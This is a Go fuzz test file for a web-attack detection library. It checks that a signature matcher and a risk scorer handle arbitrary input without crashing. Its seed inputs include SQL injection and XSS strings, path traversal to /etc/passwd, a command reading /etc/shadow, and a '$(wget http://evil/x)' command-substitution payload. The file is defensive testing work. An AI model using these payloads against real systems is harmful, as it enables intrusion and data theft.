package detection_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/adapters/detection"
	"github.com/vigilsec/vigil/internal/domain"
)

func FuzzSignatureMatcher(f *testing.F) {
	matcher := detection.NewSignatureMatcher(nil)

	seeds := []string{
		"' OR 1=1--",
		"'; DROP TABLE users;--",
		"1 UNION SELECT * FROM users--",
		"1'/**/OR/**/1=1--",
		"1'%0AOR%0A'1'='1",
		"%2527%2520OR%25201%253D1",
		"<script>alert('XSS')</script>",
		"../../etc/passwd",
		"; cat /etc/shadow",
		"$(wget http://evil/x)",
		"\x00\x01\x02\x03\x04",
		"\xff\xfe\xfd",
		"ＳＥＬＥＣＴｕｎｉｏｎ",
		"S\x00E\x00L\x00E\x00C\x00T",
		"",
		" ",
		"'",
		"--",
		"/**/",
		strings.Repeat("A", 100000),
		strings.Repeat("'", 10000),
		strings.Repeat("%25", 5000),
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, text string) {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("matcher panicked on input %q: %v", truncate(text, 100), r)
			}
		}()
		_ = matcher.Match(text)
	})
}

func FuzzScorer(f *testing.F) {
	tracker := detection.NewBehaviorTracker(detection.DefaultBehaviorConfig())
	scorer := detection.NewScorer(detection.NewSignatureMatcher(nil), tracker, nil, detection.DefaultScorerConfig())

	f.Add("192.168.1.1", "alice", "/login", "POST", "Mozilla/5.0", "body")
	f.Add("::1", "", "/?id=' OR 1=1--", "GET", "sqlmap/1.7", "'; DROP TABLE users;--")
	f.Add("", "", "", "", "", "")
	f.Add("\x00", "\xff", "/\x00", "GE\x00T", strings.Repeat("U", 5000), strings.Repeat("B", 50000))

	f.Fuzz(func(t *testing.T, ip, user, endpoint, method, userAgent, body string) {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("scorer panicked: %v", r)
			}
		}()

		req := &domain.RequestContext{
			IP:        ip,
			UserID:    user,
			Endpoint:  endpoint,
			Method:    method,
			UserAgent: userAgent,
			Body:      body,
			Timestamp: time.Now(),
		}
		req.Normalize()

		tracker.RecordRequest(req.IP, req.UserID, req.Endpoint, req.UserAgent, req.Timestamp, false)
		a := scorer.Assess(context.Background(), req)

		if a.Score < 0 || a.Score > 100 {
			t.Errorf("score out of range: %v", a.Score)
		}
		if a.Level != domain.LevelForScore(a.Score) {
			t.Errorf("level %s inconsistent with score %v", a.Level, a.Score)
		}
	})
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
